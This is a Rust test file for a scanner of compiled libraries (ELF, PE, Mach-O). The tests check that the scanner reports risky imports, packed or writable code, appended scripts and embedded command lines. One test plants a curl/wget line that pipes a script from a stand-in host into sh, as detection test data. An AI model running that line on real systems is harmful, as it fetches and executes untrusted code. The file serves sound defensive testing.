//! What compilers wrote (`testdata/make.sh`), and lies.
use base::format::Format;

use super::*;
use crate::reading::{self, Reading};

const FILES: [(&Format, &str, &[u8]); 7] = [
    (&ELF, "plain.so", include_bytes!("testdata/plain.so")),
    (&ELF, "extension.so", include_bytes!("testdata/extension.so")),
    (&ELF, "operators.so", include_bytes!("testdata/operators.so")),
    (&ELF, "big-endian.o", include_bytes!("testdata/big-endian.o")),
    (&PE, "plain.dll", include_bytes!("testdata/plain.dll")),
    (&MACH_O, "plain.dylib", include_bytes!("testdata/plain.dylib")),
    (&MACH_O, "fat.dylib", include_bytes!("testdata/fat.dylib")),
];

fn of(wanted: &str) -> (Reading, Vec<u8>) {
    let (format, name, bytes) = FILES.iter().find(|(_, name, _)| *name == wanted).unwrap();
    (reading::read(format, name, bytes).unwrap(), bytes.to_vec())
}

fn facts(wanted: &str) -> String {
    let (reading, _) = of(wanted);
    assert!(reading.complete(), "{wanted}: {:?} {:?}", reading.stop, reading.ledger);
    reading::facts(&reading).join("\n")
}

fn holds(name: &str, wanted: &[&str]) {
    let facts = facts(name);
    for wanted in wanted {
        assert!(facts.contains(wanted), "{name}: {wanted} in\n{facts}");
    }
}

#[test]
fn what_compilers_write_is_read_whole() {
    holds(
        "plain.so",
        &[
            r#"import module="native" name="execve" origin="symbol" when="load""#,
            r#"import module="native" name="socket""#,
            r#"reference kind="folder" target="/tmp/x" role="search-path""#,
            r#"identity key="constructors" value="1""#,
            r#"opaque kind="native" detail="ELF shared object, x86-64""#,
        ],
    );
    holds("extension.so", &[r#"opaque kind="native-extension" detail="ELF shared object, x86-64, a Python extension""#]);
    holds("operators.so", &[r#"kind="native-plugin""#, r#"identity key="entry-point" value="RegisterCustomOps""#]);
    holds("big-endian.o", &[r#"name="system""#, r#"detail="ELF object file, PowerPC""#]);
    holds(
        "plain.dll",
        &[
            r#"name="CreateRemoteThread" written="KERNEL32.dll""#,
            r#"name="LoadLibraryA""#,
            r#"reference kind="library" target="KERNEL32.dll" role="needed""#,
            r#"kind="native-plugin" detail="PE library, x86-64, operators for ONNX Runtime""#,
        ],
    );
    holds(
        "plain.dylib",
        &[
            r#"name="posix_spawn" written="/usr/lib/libSystem.B.dylib""#,
            r#"identity key="constructors" value="1""#,
            r#"detail="Mach-O shared library, x86-64, kernels for TensorFlow""#,
        ],
    );
    let (fat, _) = of("fat.dylib");
    assert!(fat.complete());
    assert_eq!(fat.children[0].name, b"x86-64.macho");
}

#[test]
fn command_lines_among_the_data_are_stated_once() {
    let (_, mut bytes) = of("plain.so");
    let at = bytes.len();
    let text = b"curl -s http://x.example/a | sh; wget -qO- http://x.example/a | sh";
    bytes.extend([&[0; 80][..], text, &[0; 80], b"curl easy", &[0; 2 << 20], text, &[0]].concat());
    let reading = reading::read(&ELF, "x", &bytes).unwrap();
    let texts: Vec<_> = reading.facts.iter().filter(|fact| fact.subject() == "shell.list").map(|fact| fact.at.offset).collect();
    assert_eq!(texts, [(at + 80) as u64, (bytes.len() - 1 - text.len()) as u64]);
}

#[test]
fn every_prefix_stops_politely() {
    for (format, name, bytes) in FILES {
        for cut in testkit::prefixes(bytes, &[]).filter(|cut| *cut > 4) {
            let reading = reading::parse(format, name, &bytes[..cut], false);
            let told = reading.stop.is_some() || !reading.children.is_empty() || reading.complete();
            assert!(told, "{name} cut at {cut}");
        }
    }
}

#[test]
fn changed_bytes_stop_politely() {
    for (format, name, bytes) in FILES {
        reading::change(format, name, bytes);
    }
}

#[test]
fn packed_and_writable_code_is_told() {
    let (_, mut bytes) = of("plain.so");
    // The first segment becomes writable as well.
    bytes[64 + 4] = 7;
    let reading = reading::read(&ELF, "x", &bytes).unwrap();
    assert!(reading::facts(&reading).iter().any(|fact| fact.contains("writable-code")));
    let (_, mut bytes) = of("plain.dll");
    let at = bytes.windows(5).position(|window| window == b".text").unwrap();
    bytes[at..at + 5].copy_from_slice(b"UPX1\0");
    let reading = reading::read(&PE, "x", &bytes).unwrap();
    assert!(reading::facts(&reading).iter().any(|fact| fact.contains("packed-code")));
}

#[test]
fn what_no_table_explains_comes_back() {
    for name in ["plain.so", "plain.dll", "plain.dylib"] {
        let (format, _, bytes) = FILES.iter().find(|(_, known, _)| *known == name).unwrap();
        let bytes = [*bytes, &b"#!/bin/sh\necho appended\n".repeat(4)].concat();
        let reading = reading::read(format, name, &bytes).unwrap();
        assert!(reading.complete(), "{name}: {:?}", reading.ledger);
        assert_eq!(reading.children[0].name, b"overlay", "{name}");
    }
}
